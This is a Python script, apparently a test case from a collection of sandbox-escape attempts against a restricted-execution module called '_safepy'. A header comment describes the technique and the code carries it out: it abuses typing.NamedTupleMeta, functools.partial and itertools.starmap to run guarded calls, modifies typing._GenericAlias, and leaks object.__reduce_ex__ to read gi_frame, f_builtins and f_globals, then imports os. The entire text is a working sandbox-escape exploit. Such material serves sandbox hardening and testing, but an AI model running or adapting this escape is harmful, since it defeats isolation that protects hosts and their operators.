# technique: typing.NamedTupleMeta.__new__ (exec-allowed frame) iterates ns['__annotations__'], a user object whose type's __iter__ is a C functools.partial returning itertools.starmap(operator.call, calls): each call runs with NamedTupleMeta's frame on top, so type.__setattr__/__delattr__ on stdlib classes pass the read-only guard; typing._GenericAlias + base get __module__='__main__' (private_ok), lose __reduce__ and get __slotnames__=[name]: object.__reduce_ex__ (382's capture) then reads getattr(alias, name) unchecked, forwarded to __origin__ by typing -> gi_frame -> f_builtins
# expect: any
import typing, functools, itertools, operator, json, enum
bases = []
class M(typing.NamedTupleMeta):
    def __new__(mcls, name, b, ns):
        bases.append(b)                        # (typing._NamedTuple,)
class N(typing.NamedTuple, metaclass=M):
    pass
def trusted(*calls):
    Ann = type("Ann", (), {"__iter__": functools.partial(itertools.starmap, operator.call, list(calls))})
    try:
        typing.NamedTupleMeta.__new__(M, "N", bases[0], {"__annotations__": Ann(), "__module__": "__main__"})
    except AttributeError:                     # Ann has no items(): after the calls ran
        pass
got = []
class Spy:
    def __eq__(self, other):
        got.append(other); return False
    __hash__ = object.__hash__
class E(type("Mixin", (), {"__reduce_ex__": Spy()}), enum.Enum):
    A = 1
red = got[0]                                   # object.__reduce_ex__
GA = type(typing.List[int])                    # typing._GenericAlias: __getattr__ forwards to __origin__
trusted((type.__setattr__, GA, "__module__", "__main__"),
        (type.__setattr__, GA.__mro__[1], "__module__", "__main__"),
        (type.__delattr__, GA, "__reduce__"))
def uget(obj, name):
    trusted((type.__setattr__, GA, "__slotnames__", [name]))
    return red(GA(obj, (int,), name="x"), 4)[2][1][name]   # object_getstate reads getattr(alias, name)
gen = json.JSONEncoder().iterencode({"a": 1})
fr = uget(gen, "gi_frame")
bi = uget(fr, "f_builtins")
g = uget(fr, "f_globals")
os_mod = bi["__import__"]("os")
print(type(fr), fr)
print(bi["open"], bi["eval"], os_mod, os_mod.getpid(), sorted(g)[:3])
print(bi["__import__"]("sys").modules["_safepy"])
